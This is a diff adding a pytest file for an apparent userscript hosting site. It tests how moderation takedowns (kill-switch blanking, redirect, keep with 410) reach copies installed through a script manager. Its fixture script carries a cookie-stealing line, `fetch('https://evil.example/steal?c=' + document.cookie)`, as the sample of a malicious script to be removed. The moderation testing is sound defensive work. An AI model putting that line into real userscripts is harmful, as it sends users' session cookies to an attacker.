@@ -1,0 +1,182 @@
+"""Takedowns as script managers see them: a copy installed the way Violentmonkey installs it
+updates to the kill switch after `blank`, follows the other script after `redirect`, and gets
+410 after `keep`; the script's versions are gone with it."""
+
+from __future__ import annotations
+
+import uuid
+from datetime import UTC, datetime
+from typing import Any
+
+import pytest
+
+from scripthub.application.moderation.takedowns import take_down
+from scripthub.application.scripts.access import cache_names
+from scripthub.domain.errors import ValidationError
+from scripthub.domain.takedowns import Takedown, TakedownMode
+from scripthub.domain.version_ordering import compare_tampermonkey, compare_violentmonkey
+from tests.api.client import Api, assert_problem
+from tests.api.script_calls import post_version, publish
+from tests.script_managers import ViolentmonkeyCopy, metadata
+from tests.userscripts import userscript
+
+
+def _code(name: str, version: str) -> str:
+    return userscript(
+        version,
+        f"namespace {name.lower()}.example",
+        "match https://example.com/*",
+        "grant GM_xmlhttpRequest",
+        name=name,
+        body="fetch('https://evil.example/steal?c=' + document.cookie);\n",
+    )
+
+
+async def _published(api: Api, name: str, version: str = "1.0") -> dict[str, Any]:
+    token = (await api.register())["access_token"]
+    return await publish(api, token, code=_code(name, version))
+
+
+def _install_url(script: dict[str, Any]) -> str:
+    return f"/api/scripts/{script['id']}/{script['slug']}.user.js"
+
+
+def taken_down(api: Api, script: dict[str, Any], takedown: Takedown) -> None:
+    """Take the script down as a moderation action does, in the app's own event loop."""
+
+    async def run() -> None:
+        async with api.container.adapters.unit_of_work() as uow:
+            live = await uow.scripts.get(uuid.UUID(script["id"]))
+            assert live is not None
+            await take_down(uow, live, takedown, datetime.now(UTC))
+            await uow.commit()
+        await api.container.use_cases.latest_code().changed(cache_names(live))
+
+    api.client.blocking_portal.call(run)
+
+
+async def test_after_blank_an_installed_copy_updates_to_the_kill_switch(api: Api) -> None:
+    script = await _published(api, "Cookie Jar", "1.4.2")
+    copy = await ViolentmonkeyCopy.install(api.client, _install_url(script))
+    assert not await copy.check_update()  # the cache is warm with 1.4.2
+
+    taken_down(api, script, Takedown(TakedownMode.BLANK))
+
+    assert await copy.check_update()
+    meta = copy.meta
+    assert (meta["name"], meta["namespace"]) == ("Cookie Jar", "cookie jar.example")
+    assert compare_violentmonkey("1.4.2", meta["version"]) < 0
+    assert compare_tampermonkey("1.4.2", meta["version"]) < 0
+    assert copy.code.rstrip().endswith("==/UserScript==")  # nothing runs
+    assert "grant" not in meta or meta["grant"] == "none"
+    assert meta["updateURL"].endswith(f"/api/scripts/{script['id']}/{script['slug']}.meta.js")
+    assert not await copy.check_update()
+    # Gone from the catalogue and its old versions, served only as the kill switch.
+    assert_problem(await api.get(f"/api/scripts/{script['id']}"), 404, "not_found")
+    assert_problem(await api.get(f"/api/scripts/{script['id']}/versions/1.4.2/raw"), 410, "gone")
+
+
+async def test_after_redirect_an_installed_copy_follows_the_other_script(api: Api) -> None:
+    script = await _published(api, "Cookie Jar", "1.0")
+    target = await _published(api, "Safe Jar", "2.0")
+    copy = await ViolentmonkeyCopy.install(api.client, _install_url(script))
+
+    taken_down(api, script, Takedown(TakedownMode.REDIRECT, uuid.UUID(target["id"])))
+
+    moved = await api.get(
+        f"/api/scripts/{script['id']}/{script['slug']}.meta.js", follow_redirects=False
+    )
+    assert moved.status_code == 301
+    assert moved.headers["location"].endswith(
+        f"/api/scripts/{target['id']}/{target['slug']}.meta.js"
+    )
+    raw = await api.get(f"/api/scripts/{script['id']}/raw", follow_redirects=False)
+    assert (raw.status_code, raw.headers["location"].rsplit("/api", 1)[1]) == (
+        301,
+        f"/scripts/{target['id']}/raw",
+    )
+    assert await copy.check_update()
+    assert copy.meta["name"] == "Safe Jar"
+    assert copy.meta["version"] == "2.0"
+    assert target["id"] in copy.meta["updateURL"]
+    assert not await copy.check_update()  # now on the other script's own URLs
+    assert 301 not in copy.statuses[-2:]
+
+
+async def test_after_keep_the_code_routes_are_gone_and_a_copy_stays_as_it_is(api: Api) -> None:
+    script = await _published(api, "Cookie Jar")
+    copy = await ViolentmonkeyCopy.install(api.client, _install_url(script))
+    installed = copy.code
+
+    taken_down(api, script, Takedown(TakedownMode.KEEP))
+
+    assert not await copy.check_update()
+    assert copy.statuses[-1] == 410
+    assert copy.code == installed
+    for path in ("raw", "meta", f"{script['slug']}.user.js", "versions/1.0/raw"):
+        assert_problem(await api.get(f"/api/scripts/{script['id']}/{path}"), 410, "gone")
+    # By slug it names nothing any more: the slug is free for another script.
+    assert_problem(await api.get(f"/api/scripts/{script['slug']}/raw"), 404, "not_found")
+
+
+async def test_a_suspended_authors_kill_switch_still_reaches_the_copies(api: Api) -> None:
+    owner = await api.register()
+    script = await publish(api, owner["access_token"], code=_code("Cookie Jar", "1.0"))
+    copy = await ViolentmonkeyCopy.install(api.client, _install_url(script))
+    admin = await api.admin()
+    suspended = await api.send(
+        "PATCH",
+        f"/api/users/{owner['user']['id']}/status",
+        admin["access_token"],
+        json={"account_status": "suspended"},
+    )
+    assert suspended.status_code == 200, suspended.text
+
+    taken_down(api, script, Takedown(TakedownMode.BLANK))
+
+    assert await copy.check_update()
+    assert metadata(copy.code)["description"].startswith("Removed by ScriptHub's moderators")
+
+
+async def test_the_kill_switch_follows_every_version_even_a_greater_looking_one(api: Api) -> None:
+    owner = await api.register()
+    script = await publish(api, owner["access_token"], code=_code("Cookie Jar", "9.0"))
+    response = await post_version(
+        api, owner["access_token"], script["id"], code=_code("Cookie Jar", "10.0.1")
+    )
+    assert response.status_code == 201, response.text
+
+    taken_down(api, script, Takedown(TakedownMode.BLANK))
+
+    versions = (await api.get(f"/api/scripts/{script['id']}/{script['slug']}.meta.js")).text
+    assert metadata(versions)["version"] == "11"
+
+
+@pytest.mark.parametrize(
+    ("target", "says"),
+    [
+        ("self", "another script"),
+        ("missing", "public script"),
+        ("private", "public script"),
+        ("none", "required"),
+    ],
+)
+async def test_a_redirect_goes_to_another_public_script_only(
+    api: Api, target: str, says: str
+) -> None:
+    script = await _published(api, "Cookie Jar")
+    owner = (await api.register())["access_token"]
+    private = await publish(api, owner, code=_code("Hidden", "1.0"), visibility="private")
+    redirect_to = {
+        "self": uuid.UUID(script["id"]),
+        "missing": uuid.uuid4(),
+        "private": uuid.UUID(private["id"]),
+        "none": None,
+    }[target]
+
+    with pytest.raises(ValidationError) as refused:
+        taken_down(api, script, Takedown(TakedownMode.REDIRECT, redirect_to))
+
+    assert says in refused.value.problems[0].message
+    assert refused.value.problems[0].field == "redirect_to"
+    assert (await api.get(f"/api/scripts/{script['id']}/raw")).status_code == 200
